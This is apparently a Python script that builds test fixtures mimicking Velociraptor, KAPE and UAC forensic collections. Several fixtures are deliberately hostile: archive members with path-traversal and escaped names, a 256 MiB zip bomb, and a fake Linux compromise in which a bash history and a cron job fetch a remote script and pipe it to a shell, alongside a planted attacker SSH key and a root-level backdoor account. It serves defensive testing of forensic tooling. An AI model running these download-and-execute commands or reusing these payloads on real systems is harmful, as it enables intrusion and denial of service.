#!/usr/bin/env python3
"""Builds Velociraptor, KAPE and UAC collections in the tools' real layouts, for the tests.

    make_foreign_collections.py velociraptor OUT.zip EVTX HIVE
    make_foreign_collections.py velociraptor-bomb OUT.zip EVTX
    make_foreign_collections.py velociraptor-x509 OUT.zip EVTX HIVE PRIVATE_KEY.pem
    make_foreign_collections.py velociraptor-password OUT.zip EVTX HIVE PASSWORD
    make_foreign_collections.py kape OUTDIR SOFTWARE_HIVE NTUSER_HIVE
    make_foreign_collections.py kape-zip OUT.zip SOFTWARE_HIVE
    make_foreign_collections.py uac OUT.tar.gz

The layouts follow the tools' source (Velocidex/velociraptor reporting/container.go,
utils/sanitize.go, crypto/utils/utils.go and Server.Utils.CreateCollector's encryption schemes:
an outer zip with metadata.json and data.zip in WinZip AES-256, written here by 7z, the random
password wrapped with RSA-OAEP/SHA-512 by openssl, as Go's rsa.EncryptOAEP(sha512) does; KAPE's copy log columns; tclahr/uac 3.3 as run on Linux): file names,
escaping, metadata files and their fields. The artifacts inside are the real files given on
the command line (an EVTX from ../shared/corpora, hives written by tests/support/make_hive.py);
the small text files (logs, listings) are written here.
"""

import base64
import hashlib
import io
import json
import os
import secrets
import subprocess
import sys
import tarfile
import tempfile
import zipfile


def sanitize_for_zip(component):
    """utils.SanitizeStringForZip: ?"*:|<>%/\\ and control bytes become %XX."""
    out = []
    for i, ch in enumerate(component):
        if (i == 0 and ch in ". ") or ch in '?"*:|<>%/\\' or ord(ch) < 0x20:
            out.append("%%%02X" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def velociraptor(out, evtx, hive, bomb=False):
    evtx_bytes = open(evtx, "rb").read()
    hive_bytes = open(hive, "rb").read() if hive else None
    evtx_source = "C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-Sysmon%4Operational.evtx"
    evtx_stored = "uploads/auto/" + "/".join(sanitize_for_zip(c) for c in evtx_source.split("\\"))
    hive_stored = "uploads/ntfs/" + sanitize_for_zip("\\\\.\\C:") + "/Windows/System32/config/SOFTWARE"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("client_info.json", json.dumps({
            "Hostname": "WKSTN-07", "Fqdn": "wkstn-07.corp.example", "OS": "windows",
            "Platform": "Microsoft Windows 10 Pro", "PlatformVersion": "10.0.19045",
            "KernelVersion": "10.0.19045 Build 19045", "Architecture": "amd64",
            "Name": "velociraptor", "BuildTime": "", "build_url": ""}, indent=1))
        z.writestr("collection_context.json", json.dumps({
            "session_id": "F.CT5QK0", "request": {"artifacts": ["Windows.KapeFiles.Targets"]},
            "create_time": 1795680000000000000, "total_uploaded_files": 2, "state": 2}, indent=1))
        z.writestr("log.json", json.dumps({"_ts": 1795680000, "level": "DEFAULT",
                                           "message": "Collecting file %s into /%s\n" % (evtx_source, evtx_stored)}) + "\n")
        # Generic.Collectors.File's Uploads source: the sha256 of the evtx only; the hive has
        # no row, so it stays unverified.
        z.writestr("results/Windows.KapeFiles.Targets%2FUploads.json", json.dumps({
            "CopiedOnTimestamp": "2026-11-26T10:00:01Z", "SourceFile": evtx_source,
            "DestinationFile": evtx_source, "FileSize": len(evtx_bytes),
            "SourceFileSha256": hashlib.sha256(evtx_bytes).hexdigest(),
            "Modified": "2026-11-25T22:14:05Z"}) + "\n")
        z.writestr(evtx_stored, evtx_bytes)
        if hive_bytes is not None:
            z.writestr(hive_stored, hive_bytes)
            z.writestr("uploads.json", "".join(json.dumps({"vfs_path": p, "_Components": p.split("/"),
                                                            "file_size": n}) + "\n"
                                               for p, n in ((evtx_stored, len(evtx_bytes)),
                                                            (hive_stored, len(hive_bytes)))))
        if not bomb:
            # Hostile names: ".." and "/" hidden in escapes, a NUL, a stray "%", and a member
            # that climbs out of the archive.
            z.writestr("uploads/auto/C%3A/Windows/%2E%2E/%2E%2E/evil.txt", b"dot-dot\n")
            z.writestr("uploads/auto/C%3A/Users/a%2Fb.txt", b"slash\n")
            z.writestr("uploads/auto/C%3A/Users/nul%00.txt", b"nul\n")
            z.writestr("uploads/auto/C%3A/Users/latin1-caf%E9.txt", b"a byte that is not UTF-8\n")
            z.writestr("uploads/auto/C%3A/Users/odd%ZZ%.txt", b"odd escape\n")
            z.writestr("../../escape.txt", b"traversal\n")
    if bomb:
        # 256 MiB of zeros in a few kilobytes, after the evtx: the archive's bomb bound stops here.
        with zipfile.ZipFile(out, "a", zipfile.ZIP_BZIP2) as z:
            with z.open("uploads/auto/C%3A/Windows/Temp/bomb.bin", "w") as member:
                chunk = bytes(1 << 20)
                for _ in range(256):
                    member.write(chunk)


def velociraptor_protected(out, evtx, hive, private_key=None, password=None):
    """The collector's protected container: X509 scheme when given the private key of the
    certificate (the password is random and travels wrapped in metadata.json), Password scheme
    (no metadata.json) when given the password."""
    with tempfile.TemporaryDirectory() as work:
        data = os.path.join(work, "data.zip")
        velociraptor(data, evtx, hive)
        if private_key:
            # CreateCollector: 25 random bytes as hex; pk_encrypt wraps them for the certificate.
            password = secrets.token_hex(25)
            public = os.path.join(work, "public.pem")
            subprocess.run(["openssl", "pkey", "-in", private_key, "-pubout", "-out", public], check=True)
            wrapped = subprocess.run(["openssl", "pkeyutl", "-encrypt", "-pubin", "-inkey", public,
                                      "-pkeyopt", "rsa_padding_mode:oaep", "-pkeyopt", "rsa_oaep_md:sha512",
                                      "-pkeyopt", "rsa_mgf1_md:sha512"],
                                     input=password.encode(), capture_output=True, check=True).stdout
            with open(public) as handle:
                public_pem = handle.read()
            metadata = os.path.join(work, "metadata.json")
            with open(metadata, "w") as handle:
                json.dump([{"EncryptedPass": base64.b64encode(wrapped).decode(), "Scheme": "X509",
                            "PublicKey": public_pem}], handle, indent=1)
            subprocess.run(["7z", "a", "-tzip", "-mm=Copy", out, metadata], check=True, capture_output=True)
        # data.zip is stored (Method: zip.Store) and encrypted with WinZip AES-256.
        subprocess.run(["7z", "a", "-tzip", "-mm=Copy", "-mem=AES256", "-p" + password, out, data],
                       check=True, capture_output=True)


def kape_files(software, ntuser):
    return [("C:\\Windows\\System32\\config\\SOFTWARE", "C/Windows/System32/config/SOFTWARE", open(software, "rb").read()),
            ("C:\\Users\\alice\\NTUSER.DAT", "C/Users/alice/NTUSER.DAT", open(ntuser, "rb").read() if ntuser else None)]


def kape(outdir, software, ntuser):
    run = "2026-11-26T10_00_00_1234567"
    tdest = "D:\\kape\\tout"
    rows = ["CopiedTimestamp,SourceFile,DestinationFile,FileSize,SourceFileSha1,DeferredCopy,"
            "CreatedOnUtc,ModifiedOnUtc,LastAccessedOnUtc,CopyDuration"]
    for source, stored, data in kape_files(software, ntuser):
        path = os.path.join(outdir, stored)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "wb").write(data)
        sha1 = hashlib.sha1(data).hexdigest().upper()
        if stored.endswith("NTUSER.DAT"):
            sha1 = hashlib.sha1(data + b"before").hexdigest().upper()  # the copy changed since
        t = "2026-11-26 10:00:01.1234567"
        rows.append('%s,"%s",%s\\%s,%d,%s,True,%s,%s,%s,00:00:00.0154972'
                    % (t, source, tdest, stored.replace("/", "\\"), len(data), sha1, t, "2026-11-25 22:14:05.0000000", t))
    open(os.path.join(outdir, run + "_CopyLog.csv"), "wb").write(("\ufeff" + "\r\n".join(rows) + "\r\n").encode("utf-8"))
    console = ["[2026-11-26 10:00:00.6012345 | INF] Command line:   --tsource C: --tdest D:\\kape\\tout --target RegistryHives",
               '[2026-11-26 10:00:00.6034567 | INF] System info: Machine name: FS03, 64-bit: true, User: Administrator OS: "Windows10" (10.0.19045)']
    open(os.path.join(outdir, run + "_ConsoleLog.txt"), "wb").write(("\r\n".join(console) + "\r\n").encode("utf-8"))


def kape_zip(out, software):
    # KAPE's --zip of the copies only: a single "C/" top folder and no copy log.
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("C/Windows/System32/config/SOFTWARE", open(software, "rb").read())


def uac(out):
    elf = b"\x7fELF\x02\x01\x01" + bytes(57) + b"implant"
    files = {
        "uac.log": "\n".join([
            "2026-11-26 19:00:00 +0900 INF Unix-like Artifacts Collector 3.3.0",
            "2026-11-26 19:00:00 +0900 INF Operating system: linux",
            "2026-11-26 19:00:00 +0900 INF System architecture: x86_64",
            "2026-11-26 19:00:00 +0900 INF Hostname: web01",
            "2026-11-26 19:00:00 +0900 INF Time zone: Asia/Tokyo",
            "2026-11-26 19:00:00 +0900 INF Running as: root",
            "2026-11-26 19:01:40 +0900 INF Artifacts collection completed"]) + "\n",
        "[root]/etc/passwd": "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
                             "toor:x:0:0::/root:/bin/bash\n",
        "[root]/root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKensaTestKey attacker@vps\n",
        "[root]/home/alice/.bash_history": "ls\ncurl -s http://203.0.113.9/x.sh | bash\n",
        "[root]/etc/cron.d/update": "* * * * * root wget -q -O- http://203.0.113.9/p | sh\n",
        "[root]/tmp/.x/kworker": elf,
        "live_response/process/ps_auxwww.txt":
            "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
            "root 4242 0.0 0.1 1000 500 ? S 10:00 0:00 /tmp/.x/kworker -c\n",
        "live_response/process/running_processes_full_paths.txt":
            "lrwxrwxrwx 1 root root 0 Nov 26 10:00 /proc/1/exe -> /usr/lib/systemd/systemd\n"
            "lrwxrwxrwx 1 root root 0 Nov 26 10:00 /proc/4242/exe -> /tmp/.x/kworker (deleted)\n",
        "live_response/process/proc/1/status.txt": "Name:\tsystemd\nPPid:\t0\nUid:\t0\t0\t0\t0\n",
        "live_response/process/proc/1/cmdline.txt": "/sbin/init\n",
        "live_response/process/proc/4242/status.txt": "Name:\tkworker\nPPid:\t1\nUid:\t33\t33\t33\t33\n",
        "live_response/process/proc/4242/cmdline.txt": "/tmp/.x/kworker\n-c\n",
        "live_response/process/hash_running_processes.sha1": hashlib.sha1(elf).hexdigest() + "  /proc/4242/exe\n",
        "live_response/network/ss_-tanp.txt":
            "State Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n"
            "ESTAB 0 0 192.0.2.10:41234 203.0.113.9:443 users:((\"kworker\",pid=4242,fd=3))\n",
        "live_response/system/lsmod.txt": "Module                  Size  Used by\next4 1000000 1\n",
        "bodyfile/bodyfile.txt":
            "0|/usr/bin/passwd|100|-rwsr-xr-x|0|0|68208|1795680000|1700000000|1700000000|0\n"
            "0|/tmp/.x/rootsh|101|-rwsr-xr-x|0|0|125560|1795680000|1795679000|1795679000|0\n"
            "0|/tmp/.x|102|drwxr-xr-x|0|0|4096|1795680000|1795679000|1795679000|0\n",
    }
    with tarfile.open(out, "w:gz") as tar:
        for name, text in files.items():
            data = text if isinstance(text, bytes) else text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1795680000
            tar.addfile(info, io.BytesIO(data))


def main():
    kind, out = sys.argv[1], sys.argv[2]
    args = sys.argv[3:]
    if kind == "velociraptor":
        velociraptor(out, args[0], args[1])
    elif kind == "velociraptor-x509":
        velociraptor_protected(out, args[0], args[1], private_key=args[2])
    elif kind == "velociraptor-password":
        velociraptor_protected(out, args[0], args[1], password=args[2])
    elif kind == "velociraptor-bomb":
        velociraptor(out, args[0], None, bomb=True)
    elif kind == "kape":
        kape(out, args[0], args[1])
    elif kind == "kape-zip":
        kape_zip(out, args[0])
    elif kind == "uac":
        uac(out)
    else:
        sys.exit("unknown layout " + kind)
    print(out)


if __name__ == "__main__":
    main()
